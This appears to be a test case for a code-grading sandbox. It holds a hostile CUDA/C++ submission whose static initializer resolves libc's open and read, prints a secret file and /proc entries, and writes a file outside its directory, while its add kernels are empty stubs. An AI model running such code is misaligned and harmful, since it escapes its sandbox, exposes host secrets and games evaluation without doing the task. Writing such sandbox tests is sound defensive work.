// verdict: RTE | WA | OOB | CE | FORBIDDEN_OP
// trick: It finds open in the C library, prints a file of the host and writes another.
// with: library.h
static int reach() {
    auto open = (int (*)(const char*, int, ...))find("open");
    auto get = (long (*)(int, void*, unsigned long))find("read");
    for (const char* path : {"@SECRET@", "/proc/1/environ", "/proc/self/maps"}) {
        char text[200] = "";
        get(open(path, 0), text, 199);
        printf("%s\n", text);
    }
    open("@OUTSIDE@/written", 0102, 0644);
    return 0;
}
static const int reached = reach();
extern "C" __global__ void add_forward(const float* a, const float* b, float* out, float alpha,
                                       long long n, long long nb) {}
extern "C" __global__ void add_backward(const float* grad_out, float* grad_a, float* grad_b,
                                        float alpha, long long n, long long nb) {}
